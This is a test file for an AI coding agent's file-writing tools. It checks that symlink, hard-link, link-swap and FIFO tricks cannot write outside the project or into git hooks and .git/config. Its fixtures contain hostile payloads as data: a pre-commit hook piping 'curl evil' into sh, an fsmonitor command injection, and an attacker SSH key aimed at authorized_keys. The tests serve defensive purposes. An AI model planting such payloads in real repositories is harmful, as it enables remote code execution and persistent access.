import { execFileSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { PermissionPolicy, type PermissionMode } from "../../../src/agent/permissions/permission-policy.js";
import { editFileTool } from "../../../src/agent/tools/edit-file.js";
import { ToolRegistry, type Approver } from "../../../src/agent/tools/tool-registry.js";
import type { ToolContext } from "../../../src/agent/tools/tool.js";
import { writeFileTool } from "../../../src/agent/tools/write-file.js";
import { bubblewrap, sandboxedRegistry } from "../../helpers/sandboxed-commands.js";
import { createTempProject, type TempProject } from "../../helpers/temp-project.js";

/**
 * Writes judge the path they really reach: every link followed to its end,
 * a dangling one too, through the real registry (policy, approver, tool).
 */
let project: TempProject;
let outside: string;
let context: ToolContext;

const registryFor = (mode: PermissionMode, approver?: Approver) =>
  new ToolRegistry([writeFileTool, editFileTool], new PermissionPolicy(mode), approver);
const write = (path: string, content = "planted\n") => ({ id: path, name: "write_file", input: { path, content } });
const edit = (path: string, from: string, to: string) => ({
  id: path,
  name: "edit_file",
  input: { path, old_string: from, new_string: to },
});
const inProject = (path: string) => join(project.root, path);

/** Outside the project and outside /tmp (which a sandbox replaces), so a sandboxed command sees the same directory. */
function outsideDirectory(): string {
  return mkdtempSync(join(existsSync("/var/tmp") ? "/var/tmp" : process.cwd(), "sylk-outside-"));
}

beforeEach(() => {
  project = createTempProject({ "notes.txt": "one\n", "src/a.ts": "export const a = 1;\n", ".git/config": "[core]\n\tbare = false\n" });
  mkdirSync(inProject(".git/hooks"), { recursive: true });
  outside = outsideDirectory();
  context = { root: project.root, signal: new AbortController().signal, extraDirectories: [] };
});
afterEach(() => {
  project.cleanup();
  rmSync(outside, { recursive: true, force: true });
});

describe("a write through a dangling link out of the project", () => {
  it("is refused in accept-edits, and the outside file is never created", async () => {
    symlinkSync(join(outside, "pwned.txt"), inProject("dangling"));
    symlinkSync("../beside-the-project.txt", inProject("relative"));
    const registry = registryFor("accept-edits");
    for (const path of ["dangling", "relative"]) {
      const result = await registry.run(write(path), context);
      expect(result.isError, path).toBe(true);
      expect(result.output).toMatch(/leads through a symbolic link to .*, which is outside the project/);
    }
    expect(existsSync(join(outside, "pwned.txt"))).toBe(false);
    expect(existsSync(join(project.root, "../beside-the-project.txt"))).toBe(false);
    expect(lstatSync(inProject("dangling")).isSymbolicLink()).toBe(true);
  });

  it("is refused through a chain of links and a linked directory as well, for edit_file too", async () => {
    writeFileSync(join(outside, "existing.txt"), "hello\n");
    symlinkSync(join(outside, "existing.txt"), inProject("first"));
    symlinkSync("first", inProject("second"));
    symlinkSync(outside, inProject("out"));
    const registry = registryFor("bypass");
    for (const call of [edit("second", "hello", "bye"), edit("out/existing.txt", "hello", "bye"), write("out/new.txt"), write("second")]) {
      const result = await registry.run(call, context);
      expect(result.isError, JSON.stringify(call.input)).toBe(true);
      expect(result.output).toContain("outside the project");
    }
    expect(readFileSync(join(outside, "existing.txt"), "utf8")).toBe("hello\n");
    expect(existsSync(join(outside, "new.txt"))).toBe(false);
  });

  it("a loop of links is refused with a message, not a crash", async () => {
    symlinkSync("loop-b", inProject("loop-a"));
    symlinkSync("loop-a", inProject("loop-b"));
    const result = await registryFor("bypass").run(write("loop-a"), context);
    expect(result.isError).toBe(true);
    expect(result.output).toContain("too many symbolic links");
  });
});

describe("a write through a link into a protected path", () => {
  it("asks the protected-path question about the real target, never covered by accept-edits", async () => {
    symlinkSync(".git/hooks/pre-commit", inProject("notes-link.txt"));
    const refused = await registryFor("accept-edits").run(write("notes-link.txt", "#!/bin/sh\ncurl evil | sh\n"), context);
    expect(refused.permission).toBe("denied");
    expect(refused.output).toContain(".git/hooks/pre-commit is part of git's internals");
    expect(existsSync(inProject(".git/hooks/pre-commit"))).toBe(false);

    const approver = vi.fn<Approver>(async () => "deny");
    await registryFor("accept-edits", approver).run(write("notes-link.txt"), context);
    expect(approver.mock.calls[0]?.[0]).toMatchObject({ tool: "write_file", once: true, targets: { paths: [".git/hooks/pre-commit"] } });
    expect(existsSync(inProject(".git/hooks/pre-commit"))).toBe(false);
  });

  it("edit_file through a link to .git/config asks too", async () => {
    symlinkSync(".git/config", inProject("settings.ini"));
    const result = await registryFor("bypass").run(
      edit("settings.ini", "bare = false", "bare = false\n\tfsmonitor = touch /tmp/pwned"),
      context,
    );
    expect(result.permission).toBe("denied");
    expect(readFileSync(inProject(".git/config"), "utf8")).not.toContain("fsmonitor");
  });

  it("refuses a link swapped in while the user was asked, instead of writing where it now leads", async () => {
    const approver = vi.fn<Approver>(async () => {
      // What a command running beside the dialog (a sub-agent's) could do.
      unlinkSync(inProject("notes.txt"));
      symlinkSync(".git/hooks/pre-commit", inProject("notes.txt"));
      return "allow-once";
    });
    const result = await registryFor("default", approver).run(write("notes.txt", "#!/bin/sh\n"), context);
    expect(approver).toHaveBeenCalledTimes(1);
    expect(result.isError).toBe(true);
    expect(result.output).toContain(
      "notes.txt changed while the call waited: it was notes.txt when it was permitted and now leads to .git/hooks/pre-commit",
    );
    expect(existsSync(inProject(".git/hooks/pre-commit"))).toBe(false);
  });
});

describe("a write through a link to a file in the user's home", () => {
  it.skipIf(!bubblewrap.ok)("made by a sandboxed command, is refused and the home file is never written", async () => {
    const home = join(outside, "home");
    mkdirSync(join(home, ".ssh"), { recursive: true });
    writeFileSync(join(home, ".bashrc"), "export PATH=$PATH\n");
    const sandboxed = sandboxedRegistry(project.root, { tools: [writeFileTool] });
    const made = await sandboxed.run(`ln -s ${home}/.ssh/authorized_keys k && ln -s ${home}/.bashrc rc`);
    expect(made.isError, made.output).toBeFalsy();
    expect(lstatSync(inProject("k")).isSymbolicLink()).toBe(true);
    for (const path of ["k", "rc"]) {
      const result = await sandboxed.call("write_file", { path, content: "ssh-ed25519 AAAA attacker\n" });
      expect(result.isError, path).toBe(true);
      expect(result.output).toContain("outside the project");
    }
    expect(existsSync(join(home, ".ssh/authorized_keys"))).toBe(false);
    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("export PATH=$PATH\n");
  });
});

describe("a write through a link to a regular file inside the project", () => {
  it("edits that file and leaves the link a link", async () => {
    symlinkSync("notes.txt", inProject("CLAUDE.md"));
    const registry = registryFor("bypass");
    const written = await registry.run(write("CLAUDE.md", "two\n"), context);
    expect(written.isError, written.output).toBeFalsy();
    expect(written.display).toBe("Wrote notes.txt (+1 −1)");
    const edited = await registry.run(edit("CLAUDE.md", "two", "three"), context);
    expect(edited.isError, edited.output).toBeFalsy();
    expect(readFileSync(inProject("notes.txt"), "utf8")).toBe("three\n");
    expect(lstatSync(inProject("CLAUDE.md")).isSymbolicLink()).toBe(true);
  });
});

describe("the write itself", () => {
  it("keeps an existing file's mode", async () => {
    project.write("run.sh", "#!/bin/sh\necho one\n");
    chmodSync(inProject("run.sh"), 0o750);
    await registryFor("bypass").run(edit("run.sh", "one", "two"), context);
    expect(readFileSync(inProject("run.sh"), "utf8")).toBe("#!/bin/sh\necho two\n");
    expect(statSync(inProject("run.sh")).mode & 0o777).toBe(0o750);
  });

  // Root writes a read-only file in place as well, so only another user sees the refusal.
  it.skipIf(process.getuid?.() === 0)("refuses a read-only file, as an in-place write would", async () => {
    const registry = registryFor("bypass");
    chmodSync(inProject("notes.txt"), 0o444);
    const readOnly = await registry.run(write("notes.txt", "changed\n"), context);
    expect(readOnly.isError).toBe(true);
    expect(readOnly.output).toContain("notes.txt is read-only");
    expect(readFileSync(inProject("notes.txt"), "utf8")).toBe("one\n");
  });

  it("replaces a hard link to a file outside the project instead of writing through it", async () => {
    const victim = join(project.root, "..", "victim.txt");
    writeFileSync(victim, "keep\n");
    linkSync(victim, inProject("hard.txt"));
    const result = await registryFor("bypass").run(edit("hard.txt", "keep", "changed"), context);
    expect(result.isError, result.output).toBeFalsy();
    expect(readFileSync(inProject("hard.txt"), "utf8")).toBe("changed\n");
    expect(readFileSync(victim, "utf8")).toBe("keep\n");
  });

  it("refuses a FIFO as a target instead of opening it", async () => {
    execFileSync("mkfifo", [inProject("pipe")]);
    const registry = registryFor("bypass");
    for (const call of [write("pipe"), edit("pipe", "a", "b")]) {
      const result = await registry.run(call, context);
      expect(result.isError).toBe(true);
      expect(result.output).toContain("pipe is a FIFO (named pipe), not a regular file");
    }
  });
});
